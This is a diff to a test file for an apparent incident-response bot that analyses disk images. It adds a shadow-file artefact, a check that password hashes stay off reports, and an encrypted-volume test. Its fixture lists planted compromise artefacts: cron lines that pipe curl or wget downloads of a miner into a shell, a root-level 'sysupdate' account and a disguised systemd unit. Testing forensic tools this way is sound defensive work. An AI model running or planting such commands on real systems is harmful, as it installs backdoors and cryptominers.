@@ -88,6 +88,7 @@ WINDOW = (INCIDENT - timedelta(days=1), INCIDENT + timedelta(days=1))
 # (kind, path, a piece of the line) for each planted item.
 PLANTED = [
     ("uid0_account", "/etc/passwd", "sysupdate:x:0:0"),
+    ("new_account", "/etc/shadow", "sysupdate: password set 2025-03-10"),
     ("cron", "/etc/crontab", f"curl -fsSL {disk_images.MINER_URL} | sh"),
     ("cron", "/var/spool/cron/crontabs/www-data", f"wget -q -O- {disk_images.MINER_URL} | bash"),
     ("systemd_unit", "/etc/systemd/system/dbus-update.service", "ExecStart=/tmp/.x/kworker"),
@@ -205,7 +206,8 @@ def test_image_then_analyze_names_every_planted_item_and_keeps_a_timesketch_time
     irbot = run_irbot()
     card = analysed(irbot, slack, snapshot, "--since", "2025-03-01")
     assert card.startswith("Done"), card
-    for planted in ("sysupdate:x:0:0", MINER_URL, "/tmp/.x/kworker", "attacker@kali", "xmrig.tar.gz", "/etc/passwd", "base64 -d"):
+    for planted in ("sysupdate:x:0:0", "sysupdate: password set 2025-03-10", MINER_URL, "/tmp/.x/kworker", "attacker@kali", "xmrig.tar.gz", "/etc/passwd", "base64 -d"):
+        assert "notarealhash" not in card  # the shadow hash is a secret: never on the card
         assert planted in card, (planted, card)
     assert "linux" in card and "web-01" in card
     s3 = boto3.client("s3")
@@ -270,3 +272,11 @@ def test_a_line_the_attacker_shaped_against_the_patterns_costs_next_to_nothing()
         _history_severity(line[:LINE_LIMIT])
         _history_severity(line[:LINE_LIMIT * 4])
     assert clock.monotonic() - started < 1.0
+
+
+def test_an_encrypted_volume_says_so_and_what_to_try(tmp_path):
+    disk = tmp_path / "luks.img"
+    disk.write_bytes(b"LUKS\xba\xbe\x00\x02" + os.urandom(1 << 20) + bytes(7 << 20))
+    with open(disk, "rb") as fh, pytest.raises(ActionError) as refused:
+        open_image(fh)
+    assert "encrypted volume" in str(refused.value) and "/ir workstation" in str(refused.value)
